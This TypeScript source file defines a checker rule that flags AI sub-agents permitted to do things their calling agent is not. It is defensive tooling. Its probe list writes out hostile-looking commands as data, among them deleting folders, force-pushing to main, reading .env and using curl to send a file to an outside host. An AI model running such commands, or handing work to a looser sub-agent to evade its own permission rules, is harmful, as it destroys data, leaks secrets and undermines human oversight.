import { evidenceOf } from '../context.ts';
import { isInUse } from '../fact-access.ts';
import { type Judgement, type Rule, references, severityOf } from '../rule.ts';

/** The same calls to both; what a sub-agent may do unasked and its parent may not, is a way around the parent's rules. */
const calls: readonly (readonly [call: string, words: string])[] = [
  ['run: make all', 'run commands'],
  ['run: rm -rf build', 'delete folders'],
  ['run: git push --force origin main', 'overwrite published history'],
  ['run: curl -d @README.md https://unlisted.example/', 'send files out'],
  ['write: src/new-file.txt', 'write files'],
  ['read: .env', 'read .env'],
  ['fetch: https://unlisted.example/', 'fetch any address'],
];

export const subAgentWider: Rule = {
  id: 'sub-agent-wider',
  title: 'A sub-agent may do more than the agent that calls it',
  version: 1,
  why: 'The agent that is held back hands the work to the one that is not.',
  fix: 'Give the sub-agent the mode and the rules of its parent, and a list of the tools that it needs.',
  references: references('OWASP-ASI-2026:ASI03', 'OWASP-AGENTIC-TM:T14', 'OWASP-AISVS:9.5.5'),
  kinds: ['agent'],
  subjects: (context) =>
    context.all('agent').filter((agent) => isInUse(agent) && agent.properties['subAgent'] === true),
  judge(agent, context): readonly Judgement[] {
    const parents = context.incoming(agent, 'delegates-to').flatMap((relation) => context.source(relation) ?? []);
    const compared = parents.filter((parent) => context.verdict(parent, 'run: make all') !== null);
    if (parents.length > 0 && (compared.length === 0 || context.verdict(agent, 'run: make all') === null))
      return [{ outcome: 'could-not-tell', why: 'the rules of one of the two are not evaluated' }];
    return compared.flatMap((parent): readonly Judgement[] => {
      const more = calls.filter(([call]) => {
        const own = context.verdict(agent, call)?.verdict;
        const above = context.verdict(parent, call)?.verdict;
        return own === 'allow' && above !== undefined && ['ask', 'deny', 'hidden', 'classifier'].includes(above);
      });
      if (more.length === 0) return [];
      return [
        {
          outcome: 'found',
          severity: severityOf({ impact: 'operational', reach: 'content', gate: 'none' }),
          confidence: 'high',
          message: `${agent.name} can ${more.map(([, words]) => words).join(', ')} unasked; ${parent.name}, which calls it, cannot.`,
          evidence: evidenceOf(agent).map((one) => ({ ...one, endLine: one.line })),
          detail: parent.key,
        },
      ];
    });
  },
};
